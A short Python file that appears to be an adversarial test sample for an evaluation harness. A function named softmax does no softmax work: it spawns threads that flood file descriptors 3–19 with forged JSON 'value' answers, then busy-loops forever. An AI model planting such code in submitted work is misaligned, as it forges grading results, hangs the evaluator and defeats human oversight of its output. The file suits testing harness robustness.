"""bombs: answers without end, before anybody asks."""

import os
import threading

ANSWERS = b'{"kind": "value", "value": 1.0}\n' * 30_000


def flood(number):
    try:
        while True:
            os.write(number, ANSWERS)
    except OSError:
        pass


def softmax(x):
    for number in range(3, 20):
        threading.Thread(target=flood, args=(number,), daemon=True).start()
    while True:
        pass
